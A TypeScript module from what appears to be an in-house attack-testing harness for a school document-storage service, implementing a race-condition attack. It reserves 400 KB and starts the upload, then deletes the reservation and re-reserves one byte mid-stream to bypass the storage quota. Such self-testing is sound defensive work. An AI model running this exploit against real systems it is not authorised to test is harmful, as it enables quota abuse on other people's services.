/** Room given back while bytes still come: reserve, begin the upload, delete, reserve one byte, end the upload. */
import { randomUUID } from 'node:crypto';
import { setTimeout as pause } from 'node:timers/promises';
import { pick } from '../../chance.ts';
import type { Attack, Pupil, Scene } from '../attack.ts';
import { signed } from '../headers.ts';
import { unfailing } from '../record.ts';
import { send } from '../request.ts';

const SIZE = 400_000;
const WAIT_MS = 300;

async function* halves(whenHalf: () => Promise<void>): AsyncGenerator<Buffer> {
  yield Buffer.alloc(SIZE / 2, 'x');
  await whenHalf();
  yield Buffer.alloc(SIZE / 2, 'x');
}

async function ask(scene: Scene, pupil: Pupil, path: string, body: object): Promise<number | string> {
  const { target, record, address, signal } = scene;
  const answer = await send(target.url, {
    from: address(),
    method: 'POST',
    path: `/rest/v1/${path}`,
    headers: { ...signed(scene, pupil), 'content-type': 'application/json' },
    body: [Buffer.from(JSON.stringify(body))],
    signal,
  });
  record.answer(`POST ${path}`, answer, unfailing);
  return answer.status;
}

/** Whether more was stored than was reserved is read from the rows, at the end of the siege. */
export const rooms: Attack = {
  name: 'rooms',
  sends: 'a reservation that is deleted and made again with one byte, while 400 KB are uploaded to it',
  unharmed: '4xx for the deletion, or for the upload',
  lanes: 2,
  pauseMs: 400,
  async strike(scene) {
    const { target, record, random, address, signal } = scene;
    const pupil = pick(target.pupils, random);
    const id = randomUUID();
    const reserve = (size: number): Promise<number | string> =>
      ask(scene, pupil, 'documents', { id, school_group_id: pupil.group, name: 'Pièce', size_bytes: size });
    if ((await reserve(SIZE)) !== 201) return;
    const path = `/storage/v1/object/documents/${pupil.group}/${id}`;
    const answer = await send(target.url, {
      from: address(),
      method: 'POST',
      path,
      headers: {
        ...signed(scene, pupil),
        'content-type': 'application/pdf',
        'content-length': String(SIZE),
      },
      body: halves(async () => {
        await pause(WAIT_MS, undefined, { signal }).catch(() => {});
        await ask(scene, pupil, 'rpc/delete_document', { p_document_id: id });
        await reserve(1);
      }),
      signal,
    });
    record.answer(`POST ${path}`, answer, unfailing);
    await ask(scene, pupil, 'rpc/confirm_document', { p_document_id: id });
  },
};
